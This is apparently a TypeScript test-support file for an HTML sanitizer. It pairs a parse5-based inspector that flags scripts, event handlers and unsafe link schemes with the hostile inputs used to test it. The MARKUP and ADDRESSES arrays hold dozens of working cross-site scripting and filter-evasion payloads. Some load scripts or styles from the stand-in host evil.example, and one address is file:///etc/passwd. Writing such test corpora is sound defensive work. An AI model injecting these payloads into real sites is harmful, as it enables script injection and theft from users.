// Hostile texts, and an inspector that finds what could run, load, or redirect in a document.
import { parse, type DefaultTreeAdapterMap } from 'parse5';

type Node = DefaultTreeAdapterMap['node'];

/** Markup that runs `canary` or loads from another site unless something prevents it. */
export const MARKUP: readonly string[] = [
  '<script>canary()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<img src=x onerror=canary()>',
  '<img src=x\nonerror\n=canary()>',
  '<img/src="x"/onerror=canary()>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"></use></svg>',
  '<svg><foreignObject><iframe src="javascript:canary()"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:canary()"><text>x</text></a></svg>',
  '<svg><set attributeName=href to=javascript:canary()></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=canary()>"></style></mglyph></mtext></math>',
  '<a href="javascript:canary()">x</a>',
  '<a href="JaVaScRiPt:canary()">x</a>',
  '<a href="java\tscript:canary()">x</a>',
  '<a href="&#106;avascript:canary()">x</a>',
  '<a href=" javascript:canary()">x</a>',
  '<a href="\u0001javascript:canary()">x</a>',
  '<a href="vbscript:canary()">x</a>',
  '<a href="data:text/html,<script>canary()</script>">x</a>',
  '<iframe src="javascript:canary()"></iframe>',
  '<iframe srcdoc="<script>canary()</script>"></iframe>',
  '<object data="javascript:canary()"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="javascript:canary()"><button>x</button></form>',
  '<button formaction="javascript:canary()">x</button>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<details open ontoggle=canary()>x</details>',
  '<body onload=canary()>',
  '<input autofocus onfocus=canary()>',
  '<video><source onerror=canary()></video>',
  '"><script>canary()</script>',
  '\'"><img src=x onerror=canary()>',
  '</title><script>canary()</script>',
  '--><script>canary()</script>',
  ']]><script>canary()</script>',
  '</script><script>canary()</script>',
  '<div title="\n\n<img src=x onerror=canary()>">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><script>canary()</script></template>',
  '<svg fill="url(//evil.example/x#a)"><path d="M0 0"/></svg>',
];

/** Addresses that run code if a link has them. */
export const ADDRESSES: readonly string[] = [
  'javascript:canary()',
  'JAVASCRIPT:canary()',
  'javascript&colon;canary()',
  '&#x6a;avascript:canary()',
  'java&Tab;script:canary()',
  'java&NewLine;script:canary()',
  ' javascript:canary()',
  'javascript://%0acanary()',
  'javascript:/**/canary()',
  'vbscript:canary()',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'DATA:text/html,x',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'view-source:javascript:canary()',
  'feed:javascript:canary()',
  'ms-settings:x',
  'javascript\u2003:canary()//:',
];

const FORBIDDEN = new Set([
  'iframe',
  'object',
  'embed',
  'base',
  'form',
  'foreignobject',
  'use',
  'animate',
  'set',
  'animatetransform',
  'math',
  'style',
  'noscript',
  'template',
  'video',
  'audio',
  'textarea',
  'frame',
  'frameset',
  'portal',
]);
const ADDRESS = new Set([
  'href',
  'src',
  'xlink:href',
  'action',
  'formaction',
  'data',
  'poster',
  'ping',
  'cite',
  'background',
  'srcset',
  'to',
  'from',
  'values',
]);

/** Lists what could run, load, or style anything but the site's own code, e.g. "<img onerror>". */
export function dangers(html: string): string[] {
  const found: string[] = [];
  visit(parse(html), found);
  return found;
}

function visit(node: Node, found: string[]): void {
  if ('content' in node) visit(node.content, found);
  if ('tagName' in node) inspect(node, found);
  if ('childNodes' in node) for (const child of node.childNodes) visit(child, found);
}

function inspect(element: DefaultTreeAdapterMap['element'], found: string[]): void {
  const tag = element.tagName.toLowerCase();
  const attributes = new Map(
    element.attrs.map(({ prefix, name, value }) => [
      `${prefix ? `${prefix}:` : ''}${name}`.toLowerCase(),
      value,
    ]),
  );
  // The theme has one template: the buttons that the client copies to blocks of code.
  const isOwnTemplate = tag === 'template' && attributes.get('data-region') === 'code-tools';
  if (FORBIDDEN.has(tag) && !isOwnTemplate) found.push(`<${tag}>`);
  if (tag === 'script' && attributes.get('type') === 'application/ld+json') {
    if (!isData(element)) found.push('<script> of data');
  } else if (
    tag === 'script' &&
    (!/^\/(?:docs\/)?static\/[\w./-]+$/.test(attributes.get('src') ?? '') ||
      element.childNodes.length > 0)
  )
    found.push('<script>');
  if (
    tag === 'link' &&
    /stylesheet|import|preload/i.test(attributes.get('rel') ?? '') &&
    !attributes.get('href')?.startsWith('/static/')
  )
    found.push('<link>');
  if (tag === 'meta' && attributes.has('http-equiv')) found.push('<meta http-equiv>');
  // Input elements of the theme: task list boxes, and the search field, which no form submits.
  const isOwnField =
    attributes.get('type') === 'checkbox' ||
    (attributes.get('class') === 'search-input' && attributes.get('type') === 'search');
  if (tag === 'input' && (!isOwnField || attributes.has('autofocus'))) found.push('<input>');
  for (const [name, value] of attributes) {
    if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || /["'<>`]/.test(name))
      found.push(`<${tag} ${name}>`);
    if (ADDRESS.has(name) && !isHarmless(tag, value)) found.push(`<${tag} ${name}="${value}">`);
    if (/url\s*\(/i.test(value) && element.namespaceURI.endsWith('svg'))
      found.push(`<${tag} ${name}="${value}">`);
  }
}

/** Whether a data script contains JSON and nothing that could end the element. */
function isData({ childNodes, attrs }: DefaultTreeAdapterMap['element']): boolean {
  const text = childNodes.map(node => ('value' in node ? node.value : '<')).join('');
  if (text.includes('<') || attrs.length > 1) return false;
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

function isHarmless(tag: string, address: string): boolean {
  // Browsers remove these characters before they read the scheme.
  const bare = address.replace(/^[\u0000-\u0020]+|[\t\n\r]/g, '');
  if (/^(?:https?|mailto|tel):/i.test(bare) || !/^[a-z][a-z0-9+.-]*:/i.test(bare)) return true;
  return tag === 'img' && /^data:image\/(?:gif|png|jpeg|webp);/i.test(bare);
}

/** Returns a whole document around a piece of markup, without any filter. */
export function bare(markup: string): string {
  return `<!doctype html><html><head></head><body>${markup}</body></html>`;
}

/** Processor time of this process in ms. Unlike the clock, it stops while other processes run. */
export function worked(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

/** mulberry32: returns numbers from 0 to 1, the same for a seed on every machine. */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}
